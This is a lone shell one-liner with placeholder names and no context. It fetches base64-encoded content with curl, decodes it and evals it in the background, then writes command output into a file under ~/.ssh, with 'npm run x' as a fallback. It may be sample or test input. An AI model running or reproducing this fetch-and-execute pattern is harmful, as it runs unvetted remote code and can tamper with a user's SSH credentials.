sh -c "eval \"$(curl -s x | base64 -d)\"" & nohup `a $(b "c")` > ~/.ssh/k 2>&1 || npm run x
